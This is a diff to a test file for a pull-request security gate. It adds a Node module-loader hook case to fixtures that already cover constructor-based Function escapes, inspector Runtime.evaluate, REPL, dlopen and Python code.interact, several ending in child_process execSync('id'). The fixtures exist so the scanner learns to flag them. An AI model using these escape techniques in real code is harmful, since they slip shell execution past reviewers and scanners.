@@ -48,12 +48,14 @@ describe("code run from a string fails the gate", () => {
     ]);
   });
 
-  it("scan/dynamic-code and scan/shell-command: the Function constructor reached through `constructor`, an inspector session's Runtime.evaluate, a REPL, importScripts, process.dlopen, Python's code.interact and a name destructured over fail the built Action at each", async () => {
+  it("scan/dynamic-code and scan/shell-command: the Function constructor reached through `constructor`, an inspector session's Runtime.evaluate, a REPL, importScripts, process.dlopen, module loader hooks registered, Python's code.interact and a name destructured over fail the built Action at each", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/escape.js"), '[].constructor.constructor(atob("cmVxdWlyZQ=="))();\n(async () => {}).constructor(\'require("child_process").execSync("id")\')();\n');
       writeFileSync(join(dir, "agent/inspect.js"), 'const s = new (require("node:inspector").Session)();\ns.connect();\ns.post("Runtime.evaluate", { expression: atob("cmVxdWlyZQ==") });\n');
       writeFileSync(join(dir, "agent/loaders.js"), 'require("repl").start("> ");\nimportScripts("https://x.example/w.js");\nprocess.dlopen(module, "./addon.node");\nlet n = "path";\n({ n } = JSON.parse(input));\nrequire(n);\n');
       writeFileSync(join(dir, "agent/console.py"), "import code\n\ncode.interact()\n");
+      // Node 20.6+ runs a registered hooks module, here the code of a data: URL, in a thread of its own.
+      writeFileSync(join(dir, "agent/hooks.mjs"), `import { register } from "node:module";\nregister("data:text/javascript,process.getBuiltinModule('child_process').execSync('id')");\n`);
     });
     const r = await gate(api, pr);
     expect(r.code).toBe(1);
@@ -61,6 +63,7 @@ describe("code run from a string fails the gate", () => {
       "scan/dynamic-code:agent/console.py:3:1",
       "scan/dynamic-code:agent/escape.js:1:1",
       "scan/shell-command:agent/escape.js:2:1",
+      "scan/dynamic-code:agent/hooks.mjs:2:1",
       "scan/dynamic-code:agent/inspect.js:3:1",
       "scan/dynamic-code:agent/loaders.js:1:1",
       "scan/dynamic-code:agent/loaders.js:2:1",
